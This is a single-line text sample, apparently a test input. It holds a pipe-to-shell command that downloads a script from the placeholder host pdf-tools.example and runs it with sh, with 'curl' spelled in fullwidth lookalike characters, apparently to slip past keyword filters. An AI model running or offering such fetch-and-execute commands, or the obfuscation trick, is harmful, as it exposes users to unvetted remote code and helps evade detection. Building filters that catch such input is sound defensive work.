ｃｕｒｌ https://pdf-tools.example/x | sh
